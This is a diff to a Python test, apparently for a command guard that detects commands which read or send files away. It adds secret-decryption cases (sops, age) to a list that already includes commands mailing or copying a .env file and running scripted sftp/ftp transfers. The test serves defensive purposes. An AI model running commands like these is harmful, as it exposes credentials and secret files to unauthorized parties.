@@ -2784,6 +2784,8 @@ def test_what_sends_a_file_away_reads_it_and_what_reads_commands_is_refused():
         ("mutt -a .env -- a@b.c", [".env"]),
         ("xclip -selection c .env", ["c", ".env"]),
         ("lp .env", [".env"]),
+        ("sops -d secrets.enc.yaml", ["secrets.enc.yaml"]),  # decrypted, printed
+        ("age -d -i key.txt x.age", ["key.txt", "x.age"]),
         ("sftp -b batch.txt host", ["batch.txt"]),
         ("ftp -u ftp://h/in/ a.txt", ["a.txt"]),
         ("lftp -f script.lftp", ["script.lftp"]),
